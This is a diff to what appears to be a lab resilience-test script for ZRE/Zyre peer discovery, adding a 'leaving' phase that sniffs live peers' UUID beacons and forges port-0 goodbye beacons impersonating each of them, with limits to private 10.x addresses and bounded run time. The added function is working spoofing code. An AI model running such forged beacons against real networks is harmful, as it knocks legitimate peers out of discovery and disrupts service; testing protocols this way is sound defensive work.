@@ -31,12 +31,17 @@ With --only, one phase runs alone (tests/netns/exhaustion.rs):
             each a random UUID with a dead endpoint (half on this host's
             dead ports, half on absent hosts .200-.249 of this host's /24:
             connections to those hang until they time out), TTL 0 (kept
-            for ever, as a czmq server keeps every tuple).
+            for ever, as a czmq server keeps every tuple);
+  leaving   listens on the beacon port for --sniff-seconds and then, for
+            --beacon-seconds, sends every 250 ms a port-0 ("leaving")
+            beacon with each UUID it heard: a forged goodbye of every
+            live peer on the LAN, from this host's address.
 
 Every loop is bounded by a count and the whole run by --max-seconds.
 Targets must be private 10.x addresses (the lab's); anything else is
-refused. The genuine nodes' UUIDs and endpoints are never used: this is
-traffic from a stranger, not an impersonation.
+refused. Except for `--only leaving`, the genuine nodes' UUIDs and
+endpoints are never used: that is traffic from a stranger, not an
+impersonation.
 
 Prints `PHASE <name>` as it goes and, at the end, one line
 `ATTACK-DONE {json counts}`.
@@ -432,6 +437,42 @@ def protocol_abuse(args, rng, ctx, endpoints, my_ip, deadline):
     return sockets
 
 
+def forged_leaving(args, deadline):
+    """--only leaving: see the module's docstring."""
+    print("PHASE sniffing", flush=True)
+    heard = set()
+    listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listen.bind(("", args.beacon_port))
+    listen.settimeout(0.1)
+    end = min(deadline, time.monotonic() + args.sniff_seconds)
+    while time.monotonic() < end:
+        try:
+            data, _ = listen.recvfrom(2048)
+        except socket.timeout:
+            continue
+        # Version 1 (22 bytes) or 3 (54, with a key): the UUID at 4..20,
+        # the port at 20..22; port 0 is someone's own goodbye.
+        if len(data) in (22, 54) and data[:3] == b"ZRE" and data[20:22] != b"\0\0":
+            heard.add(bytes(data[:20]) + (data[22:] if len(data) == 54 else b""))
+    listen.close()
+    count("uuids_heard", len(heard))
+    print(f"PHASE forging {len(heard)}", flush=True)
+    s = udp_socket(args.iface)
+    target = (args.beacon_addr, args.beacon_port)
+    end = min(deadline, time.monotonic() + args.beacon_seconds)
+    while time.monotonic() < end:
+        for head in heard:
+            # The same beacon with port 0 (and its key, for version 3).
+            try:
+                s.sendto(head[:20] + b"\0\0" + head[20:], target)
+                count("leaving_forged")
+            except OSError:
+                count("leaving_forged_failed")
+        time.sleep(0.25)
+    s.close()
+
+
 def held_connections(args, endpoints, deadline):
     """--only connections: see the module's docstring."""
     print("PHASE connections", flush=True)
@@ -503,7 +544,10 @@ def main():
     p.add_argument("--dead-port-base", type=int, default=20000)
     p.add_argument("--seed", type=int, default=int.from_bytes(os.urandom(4), "big"))
     p.add_argument("--max-seconds", type=float, default=60.0)
-    p.add_argument("--only", choices=["beacons", "gossip", "connections"], help="run this one phase alone")
+    p.add_argument(
+        "--only", choices=["beacons", "gossip", "connections", "leaving"], help="run this one phase alone"
+    )
+    p.add_argument("--sniff-seconds", type=float, default=3.0, help="how long to listen (--only leaving)")
     p.add_argument("--connections", type=int, default=1500, help="connections per inbox (--only connections)")
     p.add_argument("--hold-seconds", type=float, default=20.0, help="how long they are held (--only connections)")
     p.add_argument("--gossip-server", help="tcp://IP:PORT of a ZGossip server (--only gossip)")
@@ -525,6 +569,9 @@ def main():
         sockets = []
     elif args.only == "connections":
         held_connections(args, endpoints, deadline)
+        sockets = []
+    elif args.only == "leaving":
+        forged_leaving(args, deadline)
         sockets = []
     elif args.only == "gossip":
         if not args.gossip_server:
